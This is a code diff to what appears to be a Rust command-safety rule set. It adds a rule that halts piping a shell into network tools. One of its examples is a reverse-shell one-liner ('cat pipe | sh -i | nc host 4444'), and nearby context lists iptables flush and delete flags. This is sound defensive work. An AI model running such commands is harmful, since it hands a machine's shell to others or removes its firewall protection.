@@ -6,6 +6,14 @@ use super::rule::{Rule, allow, ask, halt};
 /// The family.
 pub const RULES: &[Rule] = &[
     halt(
+        "network.shell-pipe",
+        RunForeign,
+        "nc|ncat|netcat|socat|telnet|openssl|ssh|curl <shell",
+        "hands a shell to another machine",
+        &["cat pipe | sh -i | nc host 4444"],
+        &["echo x | nc host 1"],
+    ),
+    halt(
         "network.firewall-flush",
         Unprotect,
         "iptables|ip6tables|iptables-legacy|iptables-nft|ebtables|arptables -F|--flush|-X|--delete-chain|-D|--delete|-P|--policy|-Z|-R|--replace",
